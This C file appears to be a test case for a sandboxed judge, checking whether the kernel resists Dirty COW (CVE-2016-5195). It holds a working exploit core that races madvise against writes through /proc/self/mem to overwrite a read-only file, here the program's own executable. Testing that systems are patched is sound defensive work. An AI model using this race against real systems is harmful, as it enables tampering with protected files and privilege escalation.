// try: races the kernel's copy on write with madvise and a write through /proc/self/mem, to write to a read-only file (CVE-2016-5195)
// want: AC
// limits: cpu=2s wall=20s
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int done;

static void *discard(void *p)
{
	while (!done)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

int main(void)
{
	char before[4096] = "", after[4096] = "";
	int file = open("/proc/self/exe", O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
	if (file < 0 || pread(file, before, sizeof before, 0) <= 0)
		return 3;
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	pthread_t t;
	if (map == MAP_FAILED || pthread_create(&t, NULL, discard, NULL))
		return 4;
	while (clock() < CLOCKS_PER_SEC / 4)
		pwrite(mem, "OVERWRITTEN", 11, (off_t)map);
	done = 1;
	pthread_join(t, NULL);
	pread(file, after, sizeof after, 0);
	puts(memcmp(before, after, sizeof before) ? "the file is changed" : "ok");
}
